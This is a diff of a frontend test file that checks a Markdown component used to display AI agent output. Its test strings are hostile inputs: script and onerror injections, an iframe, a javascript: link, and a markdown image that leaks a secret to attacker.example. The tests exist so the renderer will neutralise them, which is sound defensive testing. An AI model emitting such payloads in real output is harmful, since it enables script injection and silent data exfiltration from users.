@@ -4,6 +4,7 @@ import { describe, expect, it } from 'vitest';
 import { storedInteraction } from '../../test/fixtures';
 import { AgentInteraction } from './AgentInteraction';
 import { Markdown } from './Markdown';
+import { MarkdownView } from './MarkdownView';
 
 describe('AgentInteraction', () => {
   it('shows a thought with its agent and time', () => {
@@ -107,8 +108,15 @@ describe('AgentInteraction', () => {
 });
 
 describe('Markdown', () => {
+  it('shows the text at once and its Markdown once the renderer has loaded', async () => {
+    const { container } = render(<Markdown text={'Some **bold** <b>raw</b>'} />);
+    expect(container).toHaveTextContent('Some **bold** <b>raw</b>');
+    expect(await screen.findByText('bold', { selector: 'strong' })).toBeInTheDocument();
+    expect(container.querySelector('b')).toBeNull();
+  });
+
   it('renders Markdown', () => {
-    const { container } = render(<Markdown text={'# Title\n\nSome **bold** and `code`.'} />);
+    const { container } = render(<MarkdownView text={'# Title\n\nSome **bold** and `code`.'} />);
     expect(container.querySelector('h1')?.textContent).toBe('Title');
     expect(container.querySelector('strong')?.textContent).toBe('bold');
     expect(container.querySelector('code')?.textContent).toBe('code');
@@ -116,7 +124,7 @@ describe('Markdown', () => {
 
   it('never turns raw HTML from the model into elements', () => {
     const { container } = render(
-      <Markdown
+      <MarkdownView
         text={'Hi <script>window.pwned=1</script><img src=x onerror="window.pwned=1"> <b>bold?</b>\n\n<iframe src="https://example.com"></iframe>'}
       />,
     );
@@ -125,14 +133,14 @@ describe('Markdown', () => {
   });
 
   it('drops javascript: links', () => {
-    const { container } = render(<Markdown text={'[click](javascript:alert(1))'} />);
+    const { container } = render(<MarkdownView text={'[click](javascript:alert(1))'} />);
     const a = container.querySelector('a');
     expect(a?.getAttribute('href') ?? '').not.toMatch(/javascript:/i);
   });
 
   it('shows a remote image as a link and never loads it', () => {
     const { container } = render(
-      <Markdown text={'Look: ![the secret](http://attacker.example/leak?d=s3cret) and ![](https://x.example/a.png)'} />,
+      <MarkdownView text={'Look: ![the secret](http://attacker.example/leak?d=s3cret) and ![](https://x.example/a.png)'} />,
     );
     expect(container.querySelector('img')).toBeNull();
     const links = [...container.querySelectorAll('a[data-testid="image-link"]')];
